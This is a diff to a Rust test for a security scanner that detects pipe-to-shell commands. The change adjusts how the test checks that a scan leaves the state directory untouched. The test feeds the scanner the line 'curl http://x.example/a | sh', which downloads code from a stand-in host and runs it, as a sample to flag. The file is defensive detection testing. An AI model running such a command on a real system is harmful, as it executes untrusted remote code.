@@ -7,13 +7,15 @@ use crate::harness::Installation;
 #[test]
 fn a_pipe_to_a_shell_is_shown_with_what_to_do_and_ends_with_1() {
     let installation = Installation::new();
+    let kept = || fs::read_dir(installation.state()).unwrap().count();
+    let before = kept();
     let ran = installation.ares(["scan", "--text", "curl http://x.example/a | sh"]).exits(1);
     let shown = &ran.stdout;
     assert!(
         shown.contains("HIGH") && shown.contains("pipe-to-shell") && shown.contains("Save what"),
         "{shown}"
     );
-    assert!(!installation.state().exists(), "a look needs no state directory");
+    assert_eq!(kept(), before, "a look leaves nothing in the state directory");
 }
 
 #[test]
